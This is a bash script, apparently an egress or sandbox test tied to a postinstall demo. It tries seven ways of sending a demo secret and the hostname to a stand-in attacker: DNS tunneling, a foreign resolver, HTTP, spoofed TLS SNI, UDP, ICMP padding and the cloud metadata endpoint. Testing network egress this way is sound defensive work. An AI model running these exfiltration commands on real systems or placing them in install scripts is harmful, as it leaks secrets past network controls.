#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# postinstall.js for machines without node: the same ways, by dig, curl, openssl and ping.
secret=${DEMO_SECRET:-no-secret} attacker=198.18.3.66
way() {
    local name=$1 start=${EPOCHREALTIME/[.,]/}
    shift
    if timeout 4 "$@" > /dev/null 2>&1 < /dev/null; then what=sent; else what="exit $?"; fi
    printf '%s\t%s\t%d ms\n' "$name" "$what" $(((${EPOCHREALTIME/[.,]/} - start) / 1000))
}
lookup() { dig +tries=1 +timeout=3 "$@" | grep -q 'status: NOERROR'; }
export -f lookup
way 'DNS tunnel' bash -c "lookup $(printf 'what=credentials;%s' "$HOSTNAME" | od -An -tx1 | tr -d ' \n' | cut -c 1-60).$secret.evil.test"
way 'foreign resolver' bash -c "lookup @$attacker $secret.evil.test"
way 'direct address' curl -s "http://$attacker/$secret"
way 'allowed name, his server' openssl s_client -brief -connect $attacker:443 -servername allowed.test -alpn "$secret"
# shellcheck disable=SC2016
way 'UDP datagram' bash -c 'exec 3<> "/dev/udp/$1/9999" && echo "$2" >&3 && head -c 1 <&3 | grep -q .' sh $attacker "$secret"
copy=$(mktemp) && cp "$(command -v ping)" "$copy" && chmod 755 "$copy" # a copy needs no file capability
way 'ICMP echo' "$copy" -c 1 -W 2 -p "$(printf %s "${secret:0:16}" | od -An -tx1 | tr -d ' \n')" $attacker
way 'cloud metadata' curl -s "http://169.254.169.254/latest/$secret"
exit 0
